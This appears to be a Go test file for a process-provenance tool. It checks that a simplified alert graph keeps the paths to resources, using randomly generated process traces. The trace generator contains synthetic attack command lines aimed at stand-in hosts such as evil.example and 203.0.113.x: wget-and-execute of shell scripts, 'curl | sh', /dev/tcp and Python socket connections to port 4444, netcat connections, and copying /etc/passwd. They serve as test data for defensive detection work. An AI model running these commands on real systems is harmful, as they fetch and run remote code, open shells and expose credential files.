package provenance

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/procwall/procwall/source"
)

// checkPreservation verifies, independently of the simplifier's own
// bookkeeping, that every path from the alert to a resource in the full
// tree has a corresponding path in the graph: for every process P among
// the alert's ancestors and descendants and every resource R that P's
// command lines or events name, the graph holds the chain of kept
// processes between the alert and P's owner (P itself, or its nearest kept
// ancestor when P was dropped), linked by spawned edges in the tree's
// direction, and an edge of the same kind from the owner to R's node. It
// also checks that every spawned edge of the graph stands for a real
// ancestry of the tree (no invented paths).
func checkPreservation(t testing.TB, tr *Tree, g *Graph, alertID string, opts Options) {
	t.Helper()
	a, err := tr.resolve(alertID)
	if err != nil {
		t.Fatal(err)
	}
	checkPreservationIdx(t, tr, g, a, opts)
}

func checkPreservationIdx(t testing.TB, tr *Tree, g *Graph, a int32, opts Options) {
	t.Helper()
	if err := g.Validate(); err != nil {
		t.Fatal(err)
	}
	if g.Nodes[g.procNode[a]].ID != g.Alert {
		t.Fatalf("alert process is not the alert node")
	}
	rules := opts.Rules
	if rules == nil {
		rules = DefaultRules()
	}
	cr, err := compileRules(rules)
	if err != nil {
		t.Fatal(err)
	}
	ruleOf := func(p int32) *compiledRule {
		if p == a {
			return nil
		}
		for i := range cr {
			if cr[i].match(tr.proc(p).exe, tr.proc(p).argv) {
				return &cr[i]
			}
		}
		return nil
	}
	kept := func(p int32) bool { return ruleOf(p) == nil }
	nodeIdx := map[string]int{}
	for i, n := range g.Nodes {
		nodeIdx[n.ID] = i
	}
	type ek struct {
		from, to string
		kind     EdgeKind
	}
	edges := map[ek]*Edge{}
	for i := range g.Edges {
		e := &g.Edges[i]
		edges[ek{e.From, e.To, e.Kind}] = e
	}
	nodeOf := func(p int32) *Node {
		i, ok := g.procNode[p]
		if !ok {
			t.Fatalf("kept process %v has no graph node", tr.info(p).ID())
		}
		n := &g.Nodes[i]
		if n.Type != TypeProcess || n.Name != tr.info(p).Name() {
			t.Fatalf("process %v mapped to node %s %v %q", tr.info(p).ID(), n.ID, n.Type, n.Name)
		}
		return n
	}
	var anc []int32
	for p := tr.proc(a).parent; p != none; p = tr.proc(p).parent {
		anc = append(anc, p)
	}
	slices.Reverse(anc) // top first
	isAnc := map[int32]bool{}
	for _, p := range anc {
		isAnc[p] = true
	}
	// keptChain: kept processes on the tree path between the alert and p
	// (inclusive), in tree order (top first).
	keptChain := func(p int32) []int32 {
		var chain []int32
		if isAnc[p] {
			for q := p; q != none; q = tr.proc(q).parent {
				if q == a {
					break
				}
			}
			i := slices.Index(anc, p)
			for _, q := range anc[i:] {
				if kept(q) {
					chain = append(chain, q)
				}
			}
			return append(chain, a)
		}
		for q := p; ; q = tr.proc(q).parent {
			if kept(q) {
				chain = append(chain, q)
			}
			if q == a {
				break
			}
		}
		slices.Reverse(chain)
		return chain
	}
	owner := func(p int32) int32 {
		if kept(p) {
			return p
		}
		if isAnc[p] {
			i := slices.Index(anc, p)
			for j := i - 1; j >= 0; j-- {
				if kept(anc[j]) {
					return anc[j]
				}
			}
			for _, q := range anc[i+1:] {
				if kept(q) {
					return q
				}
			}
			return a
		}
		for q := tr.proc(p).parent; ; q = tr.proc(q).parent {
			if kept(q) {
				return q
			}
		}
	}
	checkChain := func(chain []int32) {
		for i := 0; i+1 < len(chain); i++ {
			x, y := nodeOf(chain[i]), nodeOf(chain[i+1])
			if edges[ek{x.ID, y.ID, EdgeSpawned}] == nil {
				t.Fatalf("no spawned edge %s(%s) -> %s(%s) for the tree path %v -> %v",
					x.ID, x.Name, y.ID, y.Name, tr.info(chain[i]).ID(), tr.info(chain[i+1]).ID())
			}
		}
	}
	related := append([]int32{}, anc...)
	related = append(related, a)
	stack := []int32{a}
	for len(stack) > 0 {
		p := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		for c := tr.proc(p).firstChild; c != none; c = tr.proc(c).nextSibling {
			related = append(related, c)
			stack = append(stack, c)
		}
	}
	ex := opts.Extractor
	checked := 0
	for _, p := range related {
		if r := ruleOf(p); r != nil && r.discard {
			continue
		}
		o := owner(p)
		checkChain(keptChain(o))
		on := nodeOf(o)
		var finds []Finding
		pr := tr.proc(p)
		for _, im := range append(slices.Clip(pr.execs), image{pr.exe, pr.argv}) {
			if im.exe == "" && im.argv == nil {
				continue
			}
			f, _ := ex.ExtractArgv(im.exe, im.argv, pr.cwd)
			finds = append(finds, f...)
		}
		if !(isAnc[p] && opts.SkipAncestorActivity) {
			for i := pr.firstAct; i != none; i = tr.acts[i].next {
				finds = append(finds, activityFindings(&tr.acts[i])...)
			}
		}
		for _, f := range finds {
			checked++
			if f.Edge == EdgeResolvesTo {
				continue // domain → address, checked through the domain below
			}
			rn, ok := g.Find(f.Type, f.Name)
			if !ok {
				t.Fatalf("resource %v %q of process %v missing", f.Type, f.Name, tr.info(p).ID())
			}
			e := edges[ek{on.ID, rn.ID, f.Edge}]
			if e == nil {
				t.Fatalf("no %v edge from %s(%s) to %v %q (resource of %v)", f.Edge, on.ID, on.Name, f.Type, f.Name, tr.info(p).ID())
			}
			if f.Port != 0 && len(e.Ports) < 32 && !slices.Contains(e.Ports, f.Port) {
				t.Fatalf("edge %s -%v-> %s lacks port %d", on.ID, f.Edge, rn.ID, f.Port)
			}
		}
	}
	// No invented ancestry: each spawned edge X -> Y stands for a tree
	// process in Y whose nearest kept ancestor is in X.
	byNode := map[int32][]int32{}
	for p, n := range g.procNode {
		byNode[n] = append(byNode[n], p)
	}
	for _, e := range g.Edges {
		if e.Kind != EdgeSpawned {
			continue
		}
		ok := false
		for _, p := range byNode[int32(nodeIdx[e.To])] {
			for q := tr.proc(p).parent; q != none; q = tr.proc(q).parent {
				if _, k := g.procNode[q]; k && kept(q) {
					ok = g.procNode[q] == int32(nodeIdx[e.From])
					break
				}
			}
			if ok {
				break
			}
		}
		if !ok {
			t.Fatalf("spawned edge %s -> %s has no ancestry in the tree", e.From, e.To)
		}
	}
	if testing.Verbose() {
		t.Logf("preservation: %d related processes, %d resources checked", len(related), checked)
	}
}

var (
	genImages = []string{"/usr/bin/bash", "/usr/bin/su", "/usr/bin/dash", "/usr/bin/mv", "/usr/bin/id", "/usr/bin/wget", "/usr/bin/curl",
		"/usr/bin/python3", "/usr/bin/nc", "/usr/sbin/sshd", "/usr/bin/cp", "/usr/bin/cat", "/tmp/x"}
	genDomains = []string{"a.example", "b.example.org", "evil.example", "cdn.example.net"}
)

func genArgv(r *rand.Rand, exe string) []string {
	d := genDomains[r.IntN(len(genDomains))]
	f := "f" + strconv.Itoa(r.IntN(20)) + ".sh"
	ip := "203.0.113." + strconv.Itoa(1+r.IntN(20))
	switch baseName(exe) {
	case "bash", "dash":
		switch r.IntN(4) {
		case 0:
			return []string{"bash"}
		case 1:
			return []string{"sh", "-c", "cd /tmp; wget http://" + d + "/" + f + " && chmod +x " + f + " && ./" + f + " > out.log"}
		case 2:
			return []string{"bash", f}
		default:
			return []string{"sh", "-c", "curl -s https://" + d + "/i | sh; cat /dev/tcp/" + ip + "/" + strconv.Itoa(1000+r.IntN(9))}
		}
	case "su":
		return []string{"su", "-"}
	case "mv":
		return []string{"mv", f + ".txt", f}
	case "id":
		return []string{"id", "-u"}
	case "wget":
		return []string{"wget", "-q", "-O", "/tmp/" + f, "http://" + d + "/" + f}
	case "curl":
		return []string{"curl", "-fsSLo", f, "https://" + d + ":8443/" + f}
	case "python3":
		return []string{"python3", "-c", "import socket;s=socket.socket();s.connect(('" + ip + "',4444))"}
	case "nc":
		return []string{"nc", ip, strconv.Itoa(1 + r.IntN(9000))}
	case "cp":
		return []string{"cp", "/etc/passwd", "/tmp/" + f}
	case "cat":
		return []string{"cat", "/etc/hosts"}
	}
	return []string{exe, "--flag", f}
}

// genTrace generates a random trace of n processes with pids reused from
// a small pool (no start times and no GUIDs: identity by reuse handling),
// activity, and exits.
func genTrace(r *rand.Rand, n int) []source.Event {
	var evs []source.Event
	ts := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	tick := func() time.Time { ts = ts.Add(time.Millisecond); return ts }
	alive := []int{1}
	isAlive := map[int]bool{1: true}
	evs = append(evs, source.Event{Time: tick(), Kind: source.KindExec, PID: 1, Exe: "/usr/lib/systemd/systemd", Argv: []string{"/sbin/init"}})
	pool := 2 + n/3
	for made := 0; made < n; {
		switch k := r.IntN(10); {
		case k < 6 || len(alive) < 3:
			pid := 2 + r.IntN(pool)
			if isAlive[pid] {
				continue
			}
			parent := alive[len(alive)-1-r.IntN(min(len(alive), 8))]
			exe := genImages[r.IntN(len(genImages))]
			evs = append(evs, source.Event{Time: tick(), Kind: source.KindFork, PID: pid, PPID: parent})
			cwd := ""
			if r.IntN(2) == 0 {
				cwd = "/tmp"
			}
			evs = append(evs, source.Event{Time: tick(), Kind: source.KindExec, PID: pid, Exe: exe, Argv: genArgv(r, exe), Cwd: cwd})
			alive = append(alive, pid)
			isAlive[pid] = true
			made++
		case k < 8:
			pid := alive[r.IntN(len(alive))]
			e := source.Event{Time: tick(), PID: pid}
			switch r.IntN(3) {
			case 0:
				e.Kind = source.KindConnect
				e.Dst = netip.AddrPortFrom(netip.AddrFrom4([4]byte{198, 51, 100, byte(1 + r.IntN(30))}), uint16(1+r.IntN(500)))
			case 1:
				e.Kind, e.Path, e.Op = source.KindFile, "/tmp/f"+strconv.Itoa(r.IntN(20))+".sh", "create"
			default:
				e.Kind, e.Query = source.KindDNS, genDomains[r.IntN(len(genDomains))]
				e.Answers = []netip.Addr{netip.AddrFrom4([4]byte{203, 0, 113, byte(1 + r.IntN(20))})}
			}
			evs = append(evs, e)
		default:
			if len(alive) <= 1 {
				continue
			}
			i := 1 + r.IntN(len(alive)-1)
			pid := alive[i]
			alive = slices.Delete(alive, i, i+1)
			delete(isAlive, pid)
			evs = append(evs, source.Event{Time: tick(), Kind: source.KindExit, PID: pid})
		}
	}
	return evs
}

// TestPreservationGenerated is the preservation property on random trees
// with reused pids, random alerts, rule sets and options.
func TestPreservationGenerated(t *testing.T) {
	ruleSets := [][]Rule{
		nil,
		{},
		{{Image: "bash|su|mv|id"}},
		{{Image: "bash"}, {Image: "su"}, {Image: "mv", Resources: "discard"}, {CommandLine: `^id -u$`}},
		{{Image: "*sh"}, {Image: "/usr/bin/cat"}},
	}
	iters := 60
	if testing.Short() {
		iters = 15
	}
	for i := range iters {
		r := rand.New(rand.NewPCG(uint64(i), 42))
		tr := NewTree()
		for _, e := range genTrace(r, 50+r.IntN(400)) {
			if err := tr.Add(e); err != nil {
				t.Fatal(err)
			}
		}
		for k := 0; k < 5; k++ {
			ai := int32(r.IntN(tr.Len())) // pids are reused: pick the process itself
			opts := Options{Rules: ruleSets[r.IntN(len(ruleSets))], KeepDuplicates: r.IntN(2) == 0, SkipAncestorActivity: r.IntN(3) == 0}
			g, err := tr.simplify(ai, opts)
			if err != nil {
				t.Fatal(err)
			}
			t.Run(fmt.Sprintf("seed%d/alert%d", i, ai), func(t *testing.T) {
				checkPreservationIdx(t, tr, g, ai, opts)
			})
		}
	}
}
